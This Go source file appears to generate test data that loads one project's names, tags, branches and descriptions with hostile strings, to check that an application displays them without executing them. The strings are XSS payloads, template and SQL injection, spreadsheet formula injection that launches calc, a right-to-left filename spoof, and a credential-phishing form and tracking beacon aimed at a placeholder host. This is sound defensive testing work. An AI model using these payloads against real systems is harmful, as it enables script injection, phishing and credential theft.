package world

import (
	"slices"
	"strings"
)

// HostileMark is what every script among the hostile texts sets in the window that runs it. A page in which it
// is undefined has run none.
const HostileMark = "sightlineHostile"

// Hostile are texts that a program has to show as they are and never to obey. The service itself would refuse
// most of them as names; a server of one's own, or a file from somebody else, may hold them all the same.
var Hostile = []string{
	`<script>window.` + HostileMark + `=1</script>`,
	`<img src=x onerror="window.` + HostileMark + `=2">`,
	`<svg onload="window.` + HostileMark + `=3"><circle r="9"></svg>`,
	`<a href="javascript:window.` + HostileMark + `=4">Read more</a>`,
	`javascript:window.` + HostileMark + `=5`,
	`"><iframe srcdoc="<script>parent.` + HostileMark + `=6</script>"></iframe>`,
	`{{constructor.constructor('window.` + HostileMark + `=7')()}}`,
	`=cmd|'/C calc'!A0`,
	`@SUM(1+1)*cmd|'calc'!A0`,
	"invoice \u202egnp.exe",
	"bell \a nul \x00 escape \x1b[31mred\x1b[0m \u009b2J erased",
	"\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f9e8",
	`' OR 1=1 -- DROP TABLE work_item`,
	`<style>*{display:none!important}</style>`,
	`<meta http-equiv="refresh" content="0;url=http://hostile.invalid/">`,
	`<form action="http://hostile.invalid/"><input name="password"><button>Sign in again</button></form>`,
	`<img src="http://hostile.invalid/beacon.png" width="1">`,
	"Z\u0338\u0328a\u0337\u0353l\u0335\u0316g\u0336\u0317o",
	strings.Repeat("A very long text. ", 556)[:10_000],
}

// hostileProject is the project in which texts and names are hostile.
const hostileProject = "Tooling"

// foul reports whether the texts of an item are hostile.
func (w *World) foul(item uint32) bool {
	if !w.hostile || item == 0 {
		return false
	}
	it := &w.Items[item-1]
	return int(it.First) < len(w.Revisions) && w.foulProject(w.Projects[w.Revisions[it.First].Project])
}

func (w *World) foulProject(p *Project) bool { return w.hostile && p.first == hostileProject }

// foulText is one hostile text, or all of them one below the other for every seventh.
func foulText(n uint64) string {
	if n%7 == 0 {
		return strings.Join(Hostile, "<br>\n")
	}
	return Hostile[n%uint64(len(Hostile))]
}

// foulName is a hostile text that is short and stays itself as a part of a path.
func foulName(n int) string {
	return foulNames[n%len(foulNames)]
}

var foulNames = func() (names []string) {
	for _, text := range Hostile {
		if len(text) < 200 && !strings.ContainsAny(text, `/\;`) {
			names = append(names, text)
		}
	}
	return names
}()

// foulTags are the tags that are another in a hostile world, and what they are there.
var foulTags = map[string]string{"debt": foulNames[0], "hotfix": foulNames[1], "quick-win": foulNames[3], "ux": foulNames[4], "api": foulNames[5], "design": foulNames[6]}

// TagName is a tag as this world spells it, by its place in Tags.
func (w *World) TagName(i int) string {
	if foul, ok := foulTags[Tags[i]]; ok && w.hostile {
		return foul
	}
	return Tags[i]
}

// befoul gives the project its hostile names. What is made of a name, such as an address or an id, is made before.
func (w *World) befoul() {
	source, works := w.source(), w.works()
	p := w.Projects[slices.IndexFunc(w.Projects, w.foulProject)]
	w.rename([]Renaming{{Project: p.ID, Name: p.Name + " " + Hostile[0], At: timeOf(w.Since)}})
	p.Description = strings.Join(Hostile, "\n")
	for i := range w.Items {
		if w.foul(uint32(i + 1)) {
			w.Items[i].Title = Hostile[i%len(Hostile)]
		}
	}
	n := 0
	for _, node := range w.Nodes {
		if node.Project != p || node.Parent == nil {
			continue
		}
		node.Name += " " + foulName(n)
		n++
		node.Path = node.Parent.Path + `\` + node.Name
	}
	for i, t := range p.Teams {
		t.Name, t.Description = t.Name+" "+Hostile[i], strings.Join(Hostile, "\n")
		for k, who := range t.Members {
			if who.UPN != MemberUPN {
				who.Name += " " + foulName(k)
			}
		}
	}
	n = 0
	for _, l := range works.pipelines {
		if l.Project == p {
			l.Name += " " + Hostile[n%len(Hostile)]
			n++
		}
	}
	w.befoulSource(source, works, p)
}

// befoulSource renames repositories and branches, and everything that names those.
func (w *World) befoulSource(source *source, works *works, p *Project) {
	renamed := map[string]string{}
	name := func(ref string) string {
		if ref == DefaultBranch || !strings.HasPrefix(ref, heads) {
			return ref
		}
		if renamed[ref] == "" {
			renamed[ref] = ref + "-" + foulName(len(renamed))
		}
		return renamed[ref]
	}
	for i, r := range source.byProject[p.Index] {
		r.Name += " " + foulName(i)
		for k := range r.Refs {
			r.Refs[k].Name = name(r.Refs[k].Name)
		}
		slices.SortFunc(r.Refs, func(a, b Ref) int { return strings.Compare(a.Name, b.Name) })
		for _, push := range r.Pushes {
			for k := range push.Updates {
				push.Updates[k].Name = name(push.Updates[k].Name)
			}
		}
		for _, q := range r.Requests {
			q.Source, q.Target = name(q.Source), name(q.Target)
		}
	}
	for _, b := range works.byProject[p.Index] {
		b.Branch = name(b.Branch)
	}
}
